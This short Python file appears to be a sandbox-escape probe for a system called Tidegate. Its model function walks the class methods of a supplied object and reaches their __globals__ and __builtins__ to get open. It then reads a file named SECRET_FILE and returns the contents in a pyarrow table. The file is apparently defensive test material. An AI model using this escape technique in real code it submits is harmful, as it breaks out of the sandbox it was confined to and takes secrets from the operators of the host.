# seeks: file
# tg is an object of Tidegate: its class has methods, and those have the globals of Tidegate's modules.
import pyarrow as pa


def model(tg):
    for name in dir(type(tg)):
        names = getattr(getattr(type(tg), name), "__globals__", {})
        if "__builtins__" in names:
            found = names["__builtins__"]
            opened = found["open"] if isinstance(found, dict) else found.open
            return pa.table({"got": [opened("SECRET_FILE").read()]})
